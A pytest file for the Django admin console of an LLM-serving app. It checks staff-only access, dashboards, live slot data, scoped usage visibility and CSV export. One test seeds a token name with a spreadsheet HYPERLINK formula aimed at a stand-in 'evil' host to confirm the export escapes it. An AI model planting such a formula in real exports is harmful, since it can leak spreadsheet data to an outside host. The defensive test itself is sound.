"""The console's pages and data through Django's test client: who may see them and what they hold."""

import csv
import io

import pytest
from asgiref.sync import async_to_sync

from models_app.choices import UsageStatus
from models_app.services import finalize_usage, issue_token, start_usage

pytestmark = pytest.mark.django_db


def _row(request_id, token, model_id, status=UsageStatus.COMPLETED):
    start_usage(request_id=request_id, token_id=token.pk, model_id=model_id, endpoint="chat.completions",
                client_address=None)  # fmt: skip
    finalize_usage(request_id=request_id, status=status, prompt_tokens=20, completion_tokens=10,
                   time_to_first_token_ms=40.0, duration_ms=240.0)  # fmt: skip


def _body(response) -> str:
    async def collect() -> bytes:
        return b"".join([chunk async for chunk in response.streaming_content])

    return async_to_sync(collect)().decode()


@pytest.fixture
def staff(client, admin_user):
    client.force_login(admin_user)
    return client


@pytest.mark.parametrize("path", ["/admin/", "/admin/apps/", "/admin/live/", "/admin/live.json", "/admin/playground/"])
def test_console_pages_need_a_staff_login(client, other_user, path):
    assert client.get(path).status_code == 302  # to the login page
    client.force_login(other_user)  # active, not staff
    assert client.get(path).status_code == 302


def test_dashboard_is_the_index_and_the_app_list_stays(staff, small_model, api_token):
    _row("r1", api_token[0], small_model.id)
    page = staff.get("/admin/").content.decode()
    assert 'id="dashboard"' in page and "<svg" in page and small_model.id in page
    apps = staff.get("/admin/apps/").content.decode()
    assert "Usage records" in apps and "API tokens" in apps


def test_live_json_lists_loaded_models_slots(staff, small_model, fresh_engine):
    from inference.engine import get_engine
    from inference.engine.spec import ModelSpec

    async_to_sync(get_engine().load)(ModelSpec.from_model(small_model))
    data = staff.get("/admin/live.json").json()
    (model,) = data["models"]
    assert model["id"] == small_model.id
    assert [s["state"] for s in model["slots"]] == ["idle"] * model["status"]["slots"]
    assert model["queue"] == [] and model["prompt_cache"]["limit_bytes"] >= 0


def test_playground_prefills_from_the_model_config(staff, small_model):
    small_model.config.system_prompt = "You are terse."
    small_model.config.save()
    page = staff.get("/admin/playground/").content.decode()
    assert "You are terse." in page and '"max_tokens"' in page


def test_usage_csv_export_keeps_the_filters(staff, small_model, admin_user):
    kept = issue_token(name="kept", owner=admin_user, scopes=["inference"])[0]
    other = issue_token(name="other", owner=admin_user, scopes=["inference"])[0]
    _row("req_kept", kept, small_model.id)
    _row("req_other", other, small_model.id, UsageStatus.ERROR)
    response = staff.get(f"/admin/models_app/usagerecord/export.csv?token__id__exact={kept.pk}")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(_body(response))))
    assert [(r["request_id"], r["token"], r["status"]) for r in rows] == [("req_kept", "kept", "completed")]
    assert rows[0]["tokens_per_s"] == "45.0"  # 9 tokens after the first in 200 ms
    everything = _body(staff.get("/admin/models_app/usagerecord/export.csv"))
    assert "req_kept" in everything and "req_other" in everything


def test_token_and_model_pages_link_to_their_usage(staff, small_model, api_token):
    token = api_token[0]
    assert (
        f"?token__id__exact={token.pk}" in staff.get(f"/admin/models_app/apitoken/{token.pk}/change/").content.decode()
    )
    page = staff.get(f"/admin/models_app/llmmodel/{small_model.pk}/change/").content.decode()
    assert f"?model__id__exact={small_model.pk}" in page


def test_summary_api_window_serves_the_dashboard_figures(client, small_model, admin_user, other_user):
    mine = issue_token(name="mine", owner=other_user, scopes=["inference", "models:read"])
    theirs = issue_token(name="theirs", owner=admin_user, scopes=["inference"])[0]
    _row("m1", mine[0], small_model.id)
    _row("t1", theirs, small_model.id)
    headers = {"HTTP_AUTHORIZATION": f"Bearer {mine[1]}"}
    body = client.get("/api/v1/usage/summary/?window=24h", **headers).json()
    assert body["statuses"] == {"completed": 1}  # only the caller's own tokens
    assert [row["name"] for row in body["tokens"]] == ["mine"]
    refused = client.get("/api/v1/usage/summary/?window=24h&model=x", **headers)
    assert refused.status_code == 400 and "model" in refused.content.decode()
    assert client.get("/api/v1/usage/summary/?window=7d", **headers).status_code == 400


@pytest.fixture
def plain_staff(client, django_user_model):
    """Staff with no model permissions: the console, but only their own usage."""
    user = django_user_model.objects.create_user(username="staffer", password="pw-for-tests-only", is_staff=True)
    client.force_login(user)
    return user


def test_staff_without_the_usage_permission_see_only_their_own(client, plain_staff, small_model, admin_user):
    theirs = issue_token(name="root-secret-project", owner=admin_user, scopes=["inference"])[0]
    mine = issue_token(name="mine", owner=plain_staff, scopes=["inference"])[0]
    _row("t1", theirs, small_model.id)
    _row("m1", mine, small_model.id)
    page = client.get("/admin/").content.decode()
    assert "root-secret-project" not in page and f'data-token="{mine.pk}"' in page
    assert 'id="own-usage"' in page
    assert client.get("/admin/live/").status_code == 403
    assert client.get("/admin/live.json").status_code == 403
    assert client.get("/admin/playground/").status_code == 403  # may not mint tokens, so no playground token


def test_csv_cells_never_run_as_formulas(staff, small_model, admin_user):
    token = issue_token(name='=HYPERLINK("http://evil/?x="&A1,"x")', owner=admin_user, scopes=["inference"])[0]
    _row("req_f", token, small_model.id)
    (row,) = csv.DictReader(io.StringIO(_body(staff.get("/admin/models_app/usagerecord/export.csv"))))
    assert row["token"].startswith("'=")


def test_a_bad_filter_on_the_export_goes_back_to_the_list(staff):
    response = staff.get("/admin/models_app/usagerecord/export.csv?created_at__gte=notadate")
    assert response.status_code == 302 and response["Location"].endswith("?e=1")


def test_the_export_link_takes_every_page(staff, small_model, api_token):
    _row("r1", api_token[0], small_model.id)
    page = staff.get("/admin/models_app/usagerecord/?status__exact=completed&p=1").content.decode()
    assert "export.csv?status__exact=completed" in page and "export.csv?p=" not in page and "&amp;p=1" not in page


def test_a_backlog_is_left_to_celery_beat(staff, small_model, api_token, monkeypatch):
    for i in range(5):
        _row(f"r{i}", api_token[0], small_model.id)
    monkeypatch.setattr("models_app.console.views.FOLD_BATCH", 1)
    monkeypatch.setattr("models_app.console.views.FOLD_BATCHES", 2)
    page = staff.get("/admin/").content.decode()
    assert 'id="backlog"' in page and ">3 finished requests" in page
